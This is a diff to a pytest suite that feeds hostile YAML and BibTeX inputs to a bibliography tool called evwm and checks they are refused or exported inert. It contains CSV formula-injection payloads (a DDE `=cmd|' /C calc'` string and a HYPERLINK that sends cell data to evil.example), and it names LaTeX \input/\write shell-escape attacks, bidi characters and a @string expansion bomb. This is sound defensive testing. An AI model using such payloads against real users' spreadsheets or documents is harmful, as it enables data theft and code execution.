@@ -1,13 +1,20 @@
 """A corpus of hostile and broken inputs (tests/hostile/): each gets a clear error naming the file,
 a non-zero exit, no traceback, and nothing written."""
 
+import contextlib
+import csv
+import io
 import os
+import re
 import shutil
 import subprocess
 import sys
 from pathlib import Path
 
 import pytest
+
+from conftest import bib_record
+from evwm.cli import main
 
 CORPUS = Path(__file__).parent / "hostile"
 
@@ -29,10 +36,35 @@ CASES = {
     "missing-fields.bib": "nofields2025x.author: required field 'author' is missing",
     "non-utf8.bib": ":2: byte 0xe9 is not valid UTF-8",
     "javascript-url.bib": "url2025x.url: must be an http:// or https:// URL",
-    "float-tag.yaml": ":10: explicit YAML tags (such as !!float or !!python/...) are not allowed",
-    "huge-int.yaml": ":10: the number has more than 30 digits",
+    "float-tag.yaml": ":10: claims[0].value: explicit YAML tags (such as !!float or !!python/...) are not allowed",
+    "huge-int.yaml": ":10: claims[0].value: the number has more than 30 digits",
     "bad-date.yaml": ":7: training: '2024-02-30' is not allowed",
     "not-a-number.yaml": ":15: claims[1].value: must be a finite number, not .nan or .inf",
+    "infinite.yaml": ":10: claims[0].value: must be a finite number, not .nan or .inf",
+    "5000-digits.yaml": ":12: claims[0].gpus: the number has more than 30 digits (write a shorter number)",
+    "binary-tag.yaml": ":2: name: explicit YAML tags (such as !!float or !!python/...) are not allowed",
+    "local-tag.yaml": ":2: name: explicit YAML tags (such as !!float or !!python/...) are not allowed",
+    # text fields are text: no HTML, no script links, no block syntax that rearranges the page
+    "html-summary.yaml": ":5: summary: inline HTML (<...>) is not allowed here (write plain text;",
+    "javascript-link.yaml": ":5: summary: links may only point to http(s) URLs or to other entries",
+    "unclosed-fence.yaml": ":6: mechanism: a code fence (``` or ~~~) is not allowed here",
+    "admonition.yaml": ":6: mechanism: an admonition (!!! or ???) is not allowed here",
+    "page-title.yaml": ":5: summary: a second page title (# ...) is not allowed here",
+    "remote-image.yaml": ":5: summary: a remote image (![...](https://...)) is not allowed here",
+    "index.yaml": ":1: id: 'index' is reserved: the site has a page or folder of that name",
+    # characters that hide, reorder or break lines
+    "nel-summary.yaml": ":5: summary: holds the line separator U+0085",
+    "line-separator-name.yaml": ":2: name: holds the line separator U+2028",
+    "bidi-name.yaml": ":2: name: holds the bidirectional control character U+202E",
+    "control-char.yaml": ":2: name: holds the control character U+0007, which is invisible (delete it)",
+    "surrogate.yaml": "(inside double quotes a backslash starts an escape: write",
+    # BibTeX that would forge fields or run code in the reader's LaTeX
+    "forged-quoted.bib": "forged2025x.title: unbalanced braces",
+    "latex-input.bib": "input2025x.title: LaTeX command \\input is not allowed in bibliographic data",
+    "latex-write18.bib": "shell2025x.note: LaTeX command \\write is not allowed in bibliographic data",
+    "superscript-year.bib": "sup2025x.year: year '\u00b2\u2070\u00b2\u2075' is not a four-digit year",
+    "bidi.bib": "bidi2025x.title: holds the bidirectional control character U+202E",
+    "string-bomb.bib": ":13: bomb10.author: @string abbreviations expand to more than 262,144 characters",
 }
 
 
@@ -42,6 +74,21 @@ def evwm(root, *args):
     )
 
 
+def run(root, *args) -> tuple[int, str]:
+    """The command in this process (faster than a subprocess; an exception fails the test)."""
+    out = io.StringIO()
+    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(out):
+        code = main(["--root", str(root), *args])
+    return code, out.getvalue()
+
+
+@pytest.fixture
+def sample(sample):
+    # Only what the corpus needs: the shipped base-model list names entries the sample lacks.
+    (sample.root / "vocab/base-models.yaml").write_text("[]\n")
+    return sample
+
+
 def place(sample, name: str) -> Path:
     target = sample.root / ("bibliography" if name.endswith(".bib") else "entries/hostile") / f"hostile-{name}"
     target.parent.mkdir(parents=True, exist_ok=True)
@@ -49,8 +96,26 @@ def place(sample, name: str) -> Path:
     return target
 
 
+# Accepted as data (a name is free text), but it must reach every reader inert: here, a
+# spreadsheet opening the CSV export, which would run a cell that starts with = + - @.
+ACCEPTED = {"csv-formula.yaml"}
+
+
 def test_every_corpus_file_has_a_case():
-    assert sorted(p.name for p in CORPUS.iterdir()) == sorted(CASES)
+    assert sorted(p.name for p in CORPUS.iterdir()) == sorted([*CASES, *ACCEPTED])
+
+
+def test_formula_cells_are_accepted_and_exported_inert(sample):
+    (sample.root / "entries/hostile").mkdir()
+    shutil.copy(CORPUS / "csv-formula.yaml", sample.root / "entries/hostile/csv-formula.yaml")
+    sample.bib(bib_record("formula2025x", "=cmd|' /C calc'!A0 Fast Video", eprint="2509.00031"), name="formula")
+    code, out = run(sample.root, "validate")
+    assert code == 0, out
+    code, out = run(sample.root, "export", "-f", "csv", "--id", "csv-formula")
+    assert code == 0
+    (row,) = [r for r in csv.reader(io.StringIO(out)) if r[0] == "csv-formula"]
+    assert row[1] == '\'=HYPERLINK("https://evil.example/?"&A1,"Click")' and row[2].startswith("'=cmd")
+    assert all(not cell.startswith(("=", "+", "-", "@")) or re.fullmatch(r"-?\d+(\.\d+)?", cell) for cell in row)
 
 
 @pytest.mark.parametrize("name", sorted(CASES))
@@ -64,13 +129,14 @@ def test_hostile_input_is_refused_cleanly(sample, name):
     relpath = path.relative_to(sample.root).as_posix()
     assert any(line.startswith(relpath) and CASES[name] in line for line in output.splitlines()), output
     # the build refuses too, and writes nothing
-    build = evwm(sample.root, "build")
-    assert build.returncode == 1 and "Traceback" not in build.stdout + build.stderr
+    assert run(sample.root, "build")[0] == 1
     assert not (sample.root / "site").exists()
     # fmt leaves a file it cannot read exactly as it was
-    fmt = evwm(sample.root, "fmt")
-    assert fmt.returncode == 1 and "Traceback" not in fmt.stdout + fmt.stderr
+    code, out = run(sample.root, "fmt")
+    assert code == 1 and relpath in out
     assert path.read_bytes() == before
+    # and export refuses to export from a knowledge base with errors
+    assert run(sample.root, "export", "-f", "csv")[0] == 1
     assert not Path("/tmp/evwm-pwned").exists()
 
 
@@ -105,12 +171,9 @@ def test_symbolic_links_are_not_followed(sample, tmp_path):
     assert "Secret Stuff" not in result.stdout
 
 
-def test_new_refuses_hostile_bibtex(sample, tmp_path):
-    for name in ("broken.bib", "missing-key.bib", "duplicate-key.bib", "javascript-url.bib"):
-        result = evwm(sample.root, "new", "--bibtex", str(CORPUS / name), "--category", "inference")
-        assert result.returncode == 1 and "Traceback" not in result.stderr, name
-    assert sorted(p.name for p in (sample.root / "entries").rglob("*.yaml")) == [
-        "fast-cache.yaml",
-        "game-sim.yaml",
-        "tiny-quant.yaml",
-    ]
+@pytest.mark.parametrize("name", sorted(n for n in CASES if n.endswith(".bib")))
+def test_new_refuses_hostile_bibtex(sample, name):
+    before = {p: p.read_bytes() for p in sample.root.rglob("*") if p.is_file()}
+    code, out = run(sample.root, "new", "--bibtex", str(CORPUS / name), "--category", "inference")
+    assert code == 1 and out.startswith("error: "), out
+    assert {p: p.read_bytes() for p in sample.root.rglob("*") if p.is_file()} == before
